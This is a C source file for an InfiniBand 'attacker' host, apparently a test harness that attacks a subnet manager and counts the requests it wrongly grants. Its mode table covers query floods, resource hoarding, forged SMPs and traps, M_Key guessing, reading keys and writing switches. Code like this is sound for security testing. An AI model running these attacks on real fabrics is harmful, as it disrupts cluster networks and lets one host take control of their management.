/* A host that attacks the manager: floods, hoarding, forged SMPs, requests that only others may
 * make.
 *
 *     attacker MODE SECONDS
 *
 * It attacks for that time as fast as it can, and prints "attempts N granted M": M requests were
 * granted that exceed what this port may have or do. The modes are in a table at the end. An attack
 * reads responses only if it has to know them. The environment has the GUIDs of ports
 * (ATTACK_VICTIM, ATTACK_MASTER, ATTACK_STANDBY) and the M_Key of the attacker's own port
 * (ATTACK_M_KEY), which its owner can know. */
#include "attack/attacker.h"
#include "base/mem.h"
#include "wire/packet.h"

#include <endian.h>
#include <infiniband/umad.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum { ASK_MS = 100 };

uint64_t clock_us(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

bool goes_on(const struct attacker *attacker)
{
    return clock_us() < attacker->end_us;
}

/* ---- SA ---- */

uint8_t *make_query(struct attacker *attacker, unsigned method, unsigned attribute, uint64_t mask)
{
    uint8_t *mad = umad_get_mad(attacker->out);
    sa_request_begin(mad, method, attribute);
    wire_set(mad, SA_COMPONENT_MASK, mask);
    umad_set_grh(attacker->out, NULL);
    return mad + SA_DATA_OFFSET;
}

void send_query(struct attacker *attacker, int timeout_ms)
{
    wire_set(umad_get_mad(attacker->out), MAD_TID, ++attacker->tid);
    umad_set_addr(attacker->out, attacker->master_lid, 1, 0, (int)Q_KEY_GSI);
    umad_send(attacker->port, attacker->agent, attacker->out, MAD_BYTES, timeout_ms, 0);
    attacker->attempts++;
}

const uint8_t *response(const struct attacker *attacker)
{
    return umad_get_mad(attacker->in);
}

/* The status of the next response; -1: a request timed out; -2: there is none within `wait_ms`. */
static int next_response(struct attacker *attacker, int wait_ms, size_t *bytes)
{
    int length = IN_BYTES;
    if (umad_recv(attacker->port, attacker->in, &length, wait_ms) < 0)
        return -2;
    *bytes = (size_t)length;
    return umad_status(attacker->in) ? -1 : (int)wire_get(response(attacker), MAD_STATUS);
}

int ask(struct attacker *attacker, size_t *bytes)
{
    send_query(attacker, ASK_MS);
    int status = next_response(attacker, 10 * ASK_MS, bytes);
    while (status != -2 && (uint32_t)wire_get(response(attacker), MAD_TID) != attacker->tid)
        status = next_response(attacker, 10 * ASK_MS, bytes);
    return status < 0 ? -1 : status;
}

unsigned take_answers(struct attacker *attacker, unsigned *outstanding, unsigned most)
{
    unsigned granted = 0;
    size_t bytes;
    int status;
    while (*outstanding &&
           (status = next_response(attacker, *outstanding >= most ? 1000 : 0, &bytes)) != -2) {
        granted += status == 0;
        --*outstanding;
    }
    return granted;
}

uint64_t hoard(struct attacker *attacker, void (*make)(struct attacker *, unsigned))
{
    unsigned outstanding = 0;
    uint64_t granted = 0;
    for (unsigned number = 0; goes_on(attacker); number++) {
        make(attacker, number);
        send_query(attacker, 1000);
        outstanding++;
        granted += take_answers(attacker, &outstanding, WINDOW);
    }
    return granted + take_answers(attacker, &outstanding, 1);
}

void leave_rmpp(struct attacker *attacker)
{
    umad_unregister(attacker->port, attacker->agent);
    attacker->agent = umad_register(attacker->port, CLASS_SUBN_ADM, 2, 0, NULL);
}

void set_gid(uint8_t *gid, uint64_t prefix, uint64_t guid)
{
    wire_set_bits(gid, 0, 64, prefix);
    wire_set_bits(gid, 64, 64, guid);
}

/* ---- SMPs ---- */

uint8_t *make_smp(struct attacker *attacker, unsigned method, unsigned attribute, uint32_t modifier)
{
    uint8_t *mad = umad_get_mad(attacker->out);
    memset(mad, 0, MAD_BYTES);
    wire_set(mad, MAD_BASE_VERSION, 1);
    wire_set(mad, MAD_CLASS, CLASS_SUBN_LID);
    wire_set(mad, MAD_CLASS_VERSION, 1);
    wire_set(mad, MAD_METHOD, method);
    wire_set(mad, MAD_ATTRIBUTE_ID, attribute);
    wire_set(mad, MAD_ATTRIBUTE_MODIFIER, modifier);
    wire_set(mad, MAD_TID, ++attacker->tid);
    umad_set_grh(attacker->out, NULL);
    return mad + SMP_DATA_OFFSET;
}

void send_smp(struct attacker *attacker, unsigned lid, int timeout_ms)
{
    umad_set_addr(attacker->out, (int)lid, 0, 0, 0);
    umad_send(attacker->port, attacker->smp_agent, attacker->out, MAD_BYTES, timeout_ms, 0);
    attacker->attempts++;
}

/* ---- the program ---- */

static const struct mode {
    const char *name;
    attack *run;
} modes[] = {
    {"services", hoard_services},
    {"services-with-key", hoard_services_with_key},
    {"subscriptions", hoard_subscriptions},
    {"groups", hoard_groups},
    {"proxy-groups", hoard_proxy_groups},
    {"misses", miss_services},
    {"scans", scan_services},
    {"tables", query_tables},
    {"path-tables", query_path_tables},
    {"unread", query_without_reading},
    {"unacknowledged", query_tables_without_acknowledging},
    {"reports", provoke_reports},
    {"traps", forge_traps},
    {"own-traps", send_own_traps},
    {"p-key-traps", send_p_key_traps},
    {"sminfo", flood_sm_info},
    {"open-transfers", open_transfers},
    {"endless-transfers", send_endless_transfer},
    {"malformed-segments", send_malformed_segments},
    {"register", register_own},
    {"foreign-services", register_for_victim},
    {"foreign-deletes", delete_of_victim},
    {"foreign-guids", change_guids_of_victim},
    {"read-keys", read_keys},
    {"grh", query_with_grh},
    {"polls", poll_as_standby},
    {"controls", control_managers},
    {"guesses", guess_m_keys},
    {"own-key", use_own_m_key},
    {"lease", outlast_lease},
    {"switches", write_switches},
};

static uint64_t number_of(const char *variable)
{
    const char *text = getenv(variable);
    return text ? strtoull(text, NULL, 0) : 0;
}

/* The LID of the port with this GUID, or 0. */
static uint16_t find_lid(struct attacker *attacker, uint64_t guid)
{
    enum { DGID = 1 << 2, SGID = 1 << 3, NUMBER = 1 << 12 };
    size_t bytes;
    if (!guid)
        return 0;
    uint8_t *path = make_query(attacker, METHOD_GET, ATTRIBUTE_PATH_RECORD, DGID | SGID | NUMBER);
    set_gid(wire_bytes(path, PATH_RECORD_SGID), PREFIX, attacker->own_guid);
    set_gid(wire_bytes(path, PATH_RECORD_DGID), PREFIX, guid);
    wire_set(path, PATH_RECORD_NUMB_PATH, 1);
    if (ask(attacker, &bytes) != 0)
        return 0;
    return (uint16_t)wire_get(response(attacker) + SA_DATA_OFFSET, PATH_RECORD_DLID);
}

static bool open_port(struct attacker *attacker)
{
    umad_port_t port;
    umad_init();
    if (umad_get_port(NULL, 0, &port) < 0)
        return false;
    attacker->own_lid = (uint16_t)port.base_lid;
    attacker->master_lid = (uint16_t)port.sm_lid;
    attacker->own_guid = be64toh(port.port_guid);
    umad_release_port(&port);
    attacker->port = umad_open_port(NULL, 0);
    if (attacker->port < 0)
        return false;
    attacker->agent = umad_register(attacker->port, CLASS_SUBN_ADM, 2, RMPP_THIS_VERSION, NULL);
    attacker->smp_agent = umad_register(attacker->port, CLASS_SUBN_LID, 1, 0, NULL);
    return attacker->agent >= 0 && attacker->smp_agent >= 0;
}

static void find_targets(struct attacker *attacker)
{
    attacker->own_m_key = number_of("ATTACK_M_KEY");
    attacker->master_guid = number_of("ATTACK_MASTER");
    attacker->standby_guid = number_of("ATTACK_STANDBY");
    attacker->victim_guid = number_of("ATTACK_VICTIM");
    attacker->standby_lid = find_lid(attacker, attacker->standby_guid);
    attacker->victim_lid = find_lid(attacker, attacker->victim_guid);
    attacker->attempts = 0;
}

int main(int argc, char **argv)
{
    struct attacker attacker = {0};
    const struct mode *mode = NULL;
    for (size_t i = 0; argc == 3 && i < sizeof modes / sizeof *modes; i++)
        if (strcmp(argv[1], modes[i].name) == 0)
            mode = &modes[i];
    if (!mode) {
        fprintf(stderr, "usage: %s MODE SECONDS, with a mode of the table in attacker.c\n",
                argv[0]);
        return 2;
    }
    if (!open_port(&attacker)) {
        fprintf(stderr, "attacker: cannot open an InfiniBand port\n");
        return 1;
    }
    attacker.out = mem_zalloc(1, sizeof(struct ib_user_mad) + MAD_BYTES);
    attacker.in = mem_zalloc(1, sizeof(struct ib_user_mad) + IN_BYTES);
    rng_seed(&attacker.rng, attacker.own_guid, 0);
    find_targets(&attacker);
    attacker.end_us = clock_us() + strtoul(argv[2], NULL, 10) * 1000000;
    mode->run(&attacker);
    printf("attempts %llu granted %llu\n", (unsigned long long)attacker.attempts,
           (unsigned long long)attacker.granted);
    mem_free(attacker.in);
    mem_free(attacker.out);
    return 0;
}
